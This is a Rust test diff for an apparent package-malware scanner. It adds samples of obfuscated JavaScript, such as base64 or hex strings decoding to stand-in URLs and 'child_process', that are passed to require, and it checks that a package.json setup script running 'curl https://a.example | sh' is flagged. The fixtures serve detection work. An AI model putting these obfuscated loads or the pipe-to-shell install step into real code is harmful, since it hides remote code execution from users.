@@ -62,6 +62,38 @@ fn hidden_and_obscured_code() {
         &["global['r']=require;", "globalThis.load = require;", "global[\"m\"] = module;"],
         &["global.require = require;", "global.fetch = require('node-fetch');", "exports.r = require;", "globalThis.module = module;"],
     );
+    check(
+        SignalKind::EncodedText,
+        &[
+            "get(Buffer.from(\"aHR0cHM6Ly9kcm9wLmV4YW1wbGUv\", \"base64\").toString())",
+            "const c2 = atob('aHR0cDovL2Ryb3AuZXhhbXBsZQ==')",
+            "r(e(\"2e2f746573742f64617461\"))",
+            "x('68747470733A2F2F64726f702e6578616d706c65')",
+            "load(d(`Y2hpbGRfcHJvY2Vzcw==`))",
+            "require(Buffer.from('ZnM=', 'base64').toString())",
+            "require (atob(name))",
+            "await import(String.fromCharCode(102, 115))",
+        ],
+        &[
+            "const text = Buffer.from(x, 'base64')",
+            "// aHR0cHM6Ly9kcm9wLmV4YW1wbGUv is no text of code",
+            "hash === '2e2f00aa13ff'",
+            "id: '2e2f7465'",
+            "'2e2f746573742f6461746'",
+            "require('atob')(x)",
+            "const load = require('./load'); load(atob(x))",
+            "const url = 'https://docs.acme.example'",
+        ],
+    );
+    check(
+        SignalKind::MadeModule,
+        &["var f=new module.constructor;f.paths=[]", "new module.constructor()", "new (module['constructor'])()"],
+        &[
+            "const Module = module.constructor.length > 1 ? module.constructor : Builtin",
+            "new Module(filename, parent)",
+            "module.constructor._load",
+        ],
+    );
     check(SignalKind::EscapedText, &[&"\\x61".repeat(50)], &[&"\\x61".repeat(49), "/[\\x00-\\x1f]/"]);
     let tags = "\u{e0100}\u{e0101}\u{e0102}\u{e0103}";
     check(
@@ -249,7 +281,7 @@ fn what_speaks_to_the_world() {
             "keywords: 'iex ihy iwmi iwr kill irm ise'",
         ],
     );
-    let told = crate::ecosystem::scan::of_commands("curl https://a.example | sh", "package.json");
+    let told = crate::ecosystem::scan::of_commands("curl https://a.example | sh", "package.json").unwrap();
     assert!(matches!(told.as_slice(), [one] if one.kind == SignalKind::DownloadToShell && one.file == "package.json"), "{told:?}");
     check_in("package.json", SignalKind::DownloadToShell, &[], &[r#"{"scripts":{"setup":"curl https://a.example | sh"}}"#]);
     check(
